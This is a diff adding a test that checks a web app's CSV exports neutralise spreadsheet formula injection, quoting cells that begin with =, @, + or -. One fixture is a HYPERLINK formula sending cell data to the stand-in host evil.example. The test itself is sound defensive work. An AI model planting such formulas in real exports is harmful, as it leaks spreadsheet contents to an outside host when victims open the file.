@@ -120,3 +120,21 @@ def test_the_licence_is_configurable(tmp_path):
 def test_unknown_dataset_is_404(client):
     assert client.get("/data/v1/people.csv").status_code == 404
     assert client.get("/data/v2/events.csv").status_code == 404
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_defused_like_the_admin_export(tmp_path):
+    from tests.hub.web.sitekit import Scanner
+    site = small_site(tmp_path)
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click me")'
+    mallory = site.store.add_person(formula, consent="full")  # chose to be shown by full name
+    event = site.store.add_event("@SUM(1+1)", "2025-05-01", venue="-2+3", hashtag="+cmd")
+    Scanner(site.store).scan(event.id, mallory.badge)
+    client = site.client()
+    named = [r for r in read_csv(client.get("/data/v1/participation.csv")) if r["event_id"] == event.id]
+    assert [r["name"] for r in named] == ["'" + formula]
+    [row] = [r for r in read_csv(client.get("/data/v1/events.csv")) if r["id"] == event.id]
+    assert (row["name"], row["venue"], row["hashtag"]) == ("'@SUM(1+1)", "'-2+3", "'+cmd")
+    assert row["people_present"] == "1"  # numbers are numbers, not text with a quote
+    # JSON is not opened by spreadsheets: it carries the name exactly as stored.
+    rows = client.get("/data/v1/participation.json").json()["rows"]
+    assert [r["name"] for r in rows if r["event_id"] == event.id] == [formula]
